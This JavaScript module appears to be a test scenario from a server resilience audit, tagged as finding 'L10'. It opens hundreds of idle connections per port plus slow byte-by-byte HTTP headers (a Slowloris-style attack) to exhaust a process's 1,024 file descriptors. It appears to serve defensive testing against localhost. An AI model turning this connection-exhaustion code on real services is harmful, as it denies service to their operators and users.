const IDLE_PER_PORT = 240;
const SLOW_HEADERS = 100;
const BYTE_EVERY_MS = 500;

/**
 * 240 connections per port that send nothing, and 100 that send a header byte by byte, against a process with 1,024
 * descriptors: fewer than the connections need.
 */
export const idleConnections = {
  finding: 'L10',
  openFiles: 1_024,
  async run(attacker) {
    const { http, websocket, fallback, mqtt } = attacker.urls;
    const idle = [http, websocket, fallback, mqtt].map((url) =>
      attacker.crowd(IDLE_PER_PORT, async () => {
        attacker.sentCount++;
        const { socket, answered } = await attacker.rawHttp([], { url });
        attacker.count(await attacker.untilEnd(answered));
        socket.destroy();
        await attacker.pause(200);
      }),
    );
    const slow = attacker.crowd(SLOW_HEADERS, async () => {
      attacker.sentCount++;
      const head = Buffer.from('GET /_now HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
      const { socket, answered } = await attacker.rawHttp([head]);
      const timer = setInterval(() => socket.write('a'), BYTE_EVERY_MS);
      attacker.count(await attacker.untilEnd(answered));
      clearInterval(timer);
      socket.destroy();
      await attacker.pause(200);
    });
    await Promise.all([...idle, slow]);
  },
};
